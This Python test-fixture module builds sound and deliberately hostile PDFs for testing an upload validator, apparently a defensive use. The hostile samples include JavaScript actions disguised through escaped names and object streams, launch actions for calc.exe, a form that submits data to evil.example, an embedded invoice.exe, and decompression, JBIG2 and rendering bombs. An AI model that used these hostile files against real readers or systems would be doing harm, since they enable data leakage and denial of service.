"""PDFs made on the fly, sound and hostile ones: what an upload meets or must survive (T9, T10, T10b).

Everything that a reader could disagree about is written by hand, because a
library would mend it. Open hostile ones only in a child process with limits.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.pdf_syntax import FIRST_OWN, MEGABYTE, PAGE_TREE, document, line, stream, twice_deflated_zeros


def plain(pages: int = 1, text: str = "Guarantee certificate") -> bytes:
    """A sound document in a standard font; `text` in Latin letters stands on every page."""
    return document(content=line(text), pages=pages)


def three_pages() -> bytes:
    """A sound document with the words Page 1, Page 2 and Page 3 on its pages."""
    contents = [stream(line(f"Page {number}")) for number in (1, 2, 3)]
    return document(own=contents, page_contents=[FIRST_OWN, FIRST_OWN + 1, FIRST_OWN + 2])


def japanese(text: str = "公共工事履行保証証券 株式会社髙﨑建設") -> bytes:
    """A sound document whose Japanese text is in an embedded font."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.ttfonts import TTFont
    from reportlab.pdfgen.canvas import Canvas

    from kakunin.adapters import pdf

    pdfmetrics.registerFont(TTFont("IPAexGothic", f"{pdf.__path__[0]}/fonts/ipaexg.ttf"))
    out = io.BytesIO()
    canvas = Canvas(out, invariant=True)
    canvas.setFont("IPAexGothic", 18)
    canvas.drawString(72, 700, text)
    canvas.save()
    return out.getvalue()


def scan() -> bytes:
    """A page that is one grey picture at 200 dpi, without any text."""
    row = bytes(min(x // 7, 255) for x in range(1654))
    image = stream(
        zlib.compress(row * 2339),
        "/Type /XObject /Subtype /Image /Width 1654 /Height 2339 /ColorSpace /DeviceGray"
        " /BitsPerComponent 8 /Filter /FlateDecode",
    )
    return document(content=_PLACE_X, resources=_X, own=[image])


def empty() -> bytes:
    """No bytes at all."""
    return b""


def not_a_pdf() -> bytes:
    """A word processor's file that somebody renamed to .pdf."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def html_named_pdf() -> bytes:
    """A page of a web browser, as a broken download leaves it behind."""
    return b"<!DOCTYPE html><title>504</title><p>%PDF-1.7 could not be fetched"


def header_not_at_zero() -> bytes:
    """A sound document behind a line of rubbish: readers take it, we don't (T10)."""
    return b"From: scanner@example.jp\r\n" + plain()


def truncated() -> bytes:
    """A download that broke off in the middle of its first objects."""
    return plain(3)[:150]


def wrong_startxref() -> bytes:
    """Its last number is wrong, as a careless mail gateway leaves it: readers rebuild the table."""
    before, _, _ = plain(3).rpartition(b"startxref")
    return before + b"startxref\n7\n%%EOF\n"


def permission_flags_only() -> bytes:
    """Opens without a password, but forbids printing and copying (U2: fine)."""
    return _encrypted(user="")


def needs_password() -> bytes:
    """Cannot be opened without a password."""
    return _encrypted(user="open sesame")


def javascript_open_action() -> bytes:
    """Runs a script as soon as it is opened."""
    return document(catalog=f"/OpenAction {_SCRIPT}")


def javascript_name_tree() -> bytes:
    """A document-level script in the catalog's name tree."""
    return document(catalog=f"/Names << /JavaScript << /Names [(a) {_SCRIPT}] >> >>")


def javascript_with_escaped_name() -> bytes:
    """The same name in another spelling, out of reach of a search through the bytes."""
    return document(catalog="/OpenAction << /S /J#61va#53cript /JS (app.alert\\(1\\)) >>")


def javascript_hidden_in_object_stream() -> bytes:
    """A script in a compressed object stream: the word is nowhere in the file's bytes."""
    import pikepdf

    sound = document(catalog=f"/OpenAction {FIRST_OWN} 0 R", own=[_SCRIPT.encode()])
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(sound)) as opened:
        opened.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def javascript_in_annotation() -> bytes:
    """A script behind a button that lies over the page."""
    return _annotated(f"/Subtype /Link /A {_SCRIPT}")


def javascript_after_another_action() -> bytes:
    """A harmless jump whose /Next is a script."""
    return document(catalog=f"/OpenAction << /S /GoTo /D [0 /Fit] /Next [{_SCRIPT}] >>")


def launch_action() -> bytes:
    """Starts a program when it is opened."""
    return document(catalog="/OpenAction << /S /Launch /F (calc.exe) >>")


def launch_action_in_link() -> bytes:
    """Starts a program when a link is clicked."""
    return _annotated("/Subtype /Link /A << /S /Launch /F (calc.exe) >>")


def submit_form() -> bytes:
    """A button that sends the form's values to a foreign address."""
    return _annotated(
        "/Subtype /Widget /FT /Btn /T (send) /A << /S /SubmitForm /F (https://evil.example/) >>",
        catalog=f"/AcroForm << /Fields [{FIRST_OWN} 0 R] >>",
    )


def embedded_file() -> bytes:
    """Carries another file in the catalog's list of attachments."""
    return document(
        catalog=f"/Names << /EmbeddedFiles << /Names [(invoice.exe) {FIRST_OWN} 0 R] >> >>",
        own=_ATTACHMENT,
    )


def file_attachment_annotation() -> bytes:
    """Carries another file behind a paper clip on the page."""
    paper_clip = f"<< /Type /Annot /Subtype /FileAttachment /Rect [9 9 99 99] /FS {FIRST_OWN} 0 R >>"
    return document(page=f"/Annots [{FIRST_OWN + 2} 0 R]", own=[*_ATTACHMENT, paper_clip.encode()])


def no_pages() -> bytes:
    """A document without a page."""
    return document(pages=0)


def many_pages(pages: int = 300) -> bytes:
    """A sound document with too many pages."""
    return plain(pages)


def huge_page() -> bytes:
    """A page of seventy by seventy metres."""
    return document(box="0 0 200000 200000")


def page_without_area() -> bytes:
    """A page whose box is a point."""
    return document(box="0 0 0 0")


def big_file(megabytes: int = 50) -> bytes:
    """A sound document blown up by a stream that nothing refers to."""
    return document(own=[stream(bytes(megabytes * MEGABYTE))])


def deflate_bomb(gigabytes: int = 4) -> bytes:
    """A few kilobytes of page content that expand to gigabytes of blanks."""
    return document(
        own=[stream(twice_deflated_zeros(gigabytes * 1024), "/Filter [/FlateDecode /FlateDecode]")],
        page_contents=[FIRST_OWN],
    )


def object_stream_bomb(gigabytes: int = 4) -> bytes:
    """The catalog is followed by gigabytes of blanks: merely opening the file expands them."""
    head = f"1 0 << /Type /Catalog /Pages {PAGE_TREE} 0 R >>".encode()
    packed = stream(
        twice_deflated_zeros(gigabytes * 1024, head),
        "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
    )
    sound = document(own=[packed])
    # One table entry a row: kind, place, index. The catalog is number 0 in the stream above.
    rows = [(0, 0, 65535), (2, FIRST_OWN, 0)]
    rows += [(1, sound.index(b"\n%d 0 obj" % number) + 1, 0) for number in range(2, FIRST_OWN + 2)]
    body = sound[: sound.rindex(b"xref\n0", 0, sound.rindex(b"startxref"))]
    table = stream(
        b"".join(struct.pack(">BIH", *row) for row in rows),
        f"/Type /XRef /W [1 4 2] /Size {len(rows)} /Root 1 0 R",
    )
    return body + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(rows), table, len(body))


def image_bomb(bitmaps: int = 44) -> bytes:
    """An eight by eight picture whose 2 KB of JBIG2 ask for 44 bitmaps of 264 MB beside it.

    The bitmaps are intermediate regions: kept until the end, in case that a later segment refers to them.
    """
    side = 46_000
    page = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", 8, 8, 0, 0, 0, 0)
    text_without_letters = struct.pack(">IIIIBHI", side, side, 0, 0, 0, 0, 0) + bytes(4)
    header = struct.Struct(">IBBBI")
    segments = [
        header.pack(number, 4, 0, 1, len(text_without_letters)) + text_without_letters
        for number in range(1, bitmaps + 1)
    ]
    image = (
        "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray"
        " /BitsPerComponent 1 /Filter /JBIG2Decode"
    )
    return document(content=_PLACE_X, resources=_X, own=[stream(page + b"".join(segments), image)])


def endless_content() -> bytes:
    """A page tiled with five thousand million cells: hours of drawing in hardly any memory."""
    tile = (
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /Resources << >>"
        " /BBox [0 0 1 1] /XStep 0.01 /YStep 0.01"
    )
    return document(
        content=b"/Pattern cs /Tile scn 0 0 595 842 re f",
        resources=f"/Pattern << /Tile {FIRST_OWN} 0 R >>",
        own=[stream(b"0 0 1 1 re f", tile)],
    )


def doubling_forms() -> bytes:
    """Thirty forms, each drawing the next one twice: a thousand million strokes, read into memory first."""
    form = "/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
    forms = [
        stream(b"/X Do /X Do", f"{form} /Resources << {_x(FIRST_OWN + depth + 1)} >>") for depth in range(30)
    ]
    forms.append(stream(b"0 0 m 595 842 l S", form))
    return document(content=b"/X Do", resources=_X, own=forms)


def page_counts_disagree() -> bytes:
    """Claims three pages and has two: one parser believes it, another one counts."""
    return plain(2).replace(b"/Count 2", b"/Count 3")


def xref_loop() -> bytes:
    """A table of objects that names itself as its predecessor."""
    whole = plain()
    start = whole.rindex(b"xref\n0", 0, whole.rindex(b"startxref"))
    return whole.replace(b"/Root", b"/Prev %d /Root" % start)


def cyclic_page_tree() -> bytes:
    """A page tree that is its own child."""
    return plain().replace(b"/Kids [", b"/Kids [%d 0 R " % PAGE_TREE)


def cyclic_form() -> bytes:
    """A form that draws itself."""
    form = stream(
        b"/X Do 0 0 m 9 9 l S", f"/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << {_X} >>"
    )
    return document(content=b"/X Do", resources=_X, own=[form])


def deeply_nested(depth: int = 100_000) -> bytes:
    """Arrays in arrays in arrays, to exhaust a parser's stack."""
    return document(catalog=f"/Deep {'[' * depth}{']' * depth}")


def not_embedded_font(
    encoding: str = "90ms-RKSJ-H",
    font_name: str = "MS-Mincho",
    text: str = "公共工事履行保証証券",
    *,
    ordering: str = "Japan1",
) -> bytes:
    """Japanese text in a font that is not in the file, as offices in Japan write it (T10b)."""
    kind = "CIDFontType0" if encoding.endswith("V") else "CIDFontType2"
    flags = 4 if "Gothic" in font_name else 6  # the bit between them: serifs
    return document(
        content=b"BT /G 24 Tf 300 700 Td <%s> Tj ET" % _encode(text, encoding).hex().encode(),
        resources=f"/Font << /G {FIRST_OWN} 0 R >>",
        own=[
            f"<< /Type /Font /Subtype /Type0 /BaseFont /{font_name}-{encoding} /Encoding /{encoding}"
            f" /DescendantFonts [{FIRST_OWN + 1} 0 R] >>".encode(),
            f"<< /Type /Font /Subtype /{kind} /BaseFont /{font_name} /DW 1000"
            f" /CIDSystemInfo << /Registry (Adobe) /Ordering ({ordering}) /Supplement 2 >>"
            f" /FontDescriptor {FIRST_OWN + 2} 0 R >>".encode(),
            f"<< /Type /FontDescriptor /FontName /{font_name} /Flags {flags} /FontBBox [0 -136 1000 859]"
            " /ItalicAngle 0 /Ascent 859 /Descent -140 /CapHeight 709 /StemV 80 >>".encode(),
        ],
    )


def vertical_text(encoding: str = "90ms-RKSJ-V") -> bytes:
    """Text that runs from top to bottom, in a font that is not in the file."""
    return not_embedded_font(encoding, text="履行保証（見本）ー、")


def font_without_known_letters() -> bytes:
    """Glyph numbers of a font that is not in the file: nobody can tell which letters they are."""
    return not_embedded_font("Identity-H", "SecretGothic", ordering="Identity")


def hangul_not_embedded() -> bytes:
    """Korean text in a font that is not in the file and that no Japanese font can stand in for."""
    return not_embedded_font("KSCms-UHC-H", "HYSMyeongJo-Medium", "보증서 견본", ordering="Korea1")


BAD: dict[str, Callable[[], bytes]] = {
    "not_pdf": not_a_pdf,
    "unreadable": truncated,
    "needs_password": needs_password,
    "no_pages": no_pages,
    "too_many_pages": many_pages,
    "page_too_large": huge_page,
    "javascript": javascript_open_action,
    "launch_action": launch_action,
    "embedded_files": embedded_file,
    "parsers_disagree": page_counts_disagree,
    "missing_fonts": font_without_known_letters,
    "too_slow": endless_content,
    "too_much_memory": image_bomb,
}
"""For each reason of a refusal its typical file."""


def _x(number: int) -> str:
    return f"/XObject << /X {number} 0 R >>"


_X = _x(FIRST_OWN)
_PLACE_X = b"595 0 0 842 0 0 cm /X Do"
_SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_ATTACHMENT = [
    f"<< /Type /Filespec /F (invoice.exe) /EF << /F {FIRST_OWN + 1} 0 R >> >>".encode(),
    stream(b"MZ", "/Type /EmbeddedFile"),
]


def _annotated(entries: str, catalog: str = "") -> bytes:
    annotation = f"<< /Type /Annot /Rect [9 9 99 99] {entries} >>"
    return document(page=f"/Annots [{FIRST_OWN} 0 R]", own=[annotation.encode()], catalog=catalog)


def _encrypted(user: str) -> bytes:
    import pikepdf

    out = io.BytesIO()
    forbidden = pikepdf.Permissions(extract=False, print_highres=False, print_lowres=False)
    with pikepdf.open(io.BytesIO(plain())) as opened:
        opened.save(out, encryption=pikepdf.Encryption(owner="owner", user=user, allow=forbidden))
    return out.getvalue()


_CODECS = {"90ms-RKSJ": "cp932", "90msp-RKSJ": "cp932", "EUC": "euc_jp", "KSCms-UHC": "cp949"}


def _encode(text: str, encoding: str) -> bytes:
    """The bytes that stand for `text` under one of PDF's predefined CMaps."""
    if encoding in {"H", "V"}:
        # JIS in seven bits is EUC without its high bits.
        return bytes(byte & 0x7F for byte in text.encode("euc_jp"))
    return text.encode(_CODECS.get(encoding.rsplit("-", 1)[0], "utf-16-be"))
